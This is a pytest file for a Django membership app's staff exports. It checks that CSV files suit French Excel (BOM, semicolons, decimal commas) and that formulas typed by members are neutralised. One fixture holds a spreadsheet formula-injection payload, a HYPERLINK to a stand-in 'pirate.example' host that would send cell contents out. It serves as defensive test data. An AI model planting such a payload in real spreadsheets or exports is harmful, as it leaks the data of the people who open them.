"""Staff open the lists' exports in a French Excel: the bytes it reads, and no formula a member
typed ever runs there."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from .factories import OrganisationFactory, PaymentFactory, ProfileFactory, UserFactory

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"


@pytest.fixture
def staff_client(client):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    return client


def _export(client, url_name, export_format):
    response = client.get(reverse(url_name), {"export": export_format})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return response, content


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(BOM)
    return list(csv.DictReader(io.StringIO(content[len(BOM) :].decode("utf-8")), delimiter=";"))


def test_csv_export_is_what_a_french_excel_reads(staff_client):
    PaymentFactory(
        cotisation__user=None,
        cotisation__organisation=OrganisationFactory(name="Commune de Royère"),
        amount=Decimal("12.50"),
    )
    response, content = _export(staff_client, "membership_payment_modeladmin_index", "csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    [row] = _csv_rows(content)
    assert row["Titulaire"] == "Commune de Royère"
    assert row["Montant (€)"] == "12,50"
    assert row["Année"] == "2026"


def test_csv_export_neutralises_formulas_typed_by_members(staff_client):
    ProfileFactory(
        last_name='=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")',
        first_name="+1+1",
        job_title="@SUM(A1:A9)",
        phone="-2+3",
    )
    ProfileFactory(last_name="\tTabulé", first_name="\rRetour", job_title="Élue", phone="")
    _, content = _export(staff_client, "membership_memberprofile_modeladmin_index", "csv")

    first, second = sorted(_csv_rows(content), key=lambda row: row["Prénom"], reverse=True)
    assert first["Nom"] == '\'=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")'
    assert first["Prénom"] == "'+1+1"
    assert first["Fonction"] == "'@SUM(A1:A9)"
    assert first["Téléphone"] == "'-2+3"
    assert second["Nom"] == "'\tTabulé"
    assert second["Prénom"] == "'\rRetour"
    assert second["Fonction"] == "Élue"
    assert second["Téléphone"] == "-"  # the lists' empty mark, no formula


def test_xlsx_export_keeps_formulas_typed_by_members_as_text(staff_client):
    ProfileFactory(last_name="=1+1", job_title="@SUM(A1:A9)")
    _, content = _export(staff_client, "membership_memberprofile_modeladmin_index", "xlsx")

    sheet = load_workbook(io.BytesIO(content)).active
    headings = [cell.value for cell in sheet[1]]
    cells = dict(zip(headings, sheet[2], strict=True))
    assert (cells["Nom"].value, cells["Nom"].data_type) == ("=1+1", "s")
    assert (cells["Fonction"].value, cells["Fonction"].data_type) == ("@SUM(A1:A9)", "s")
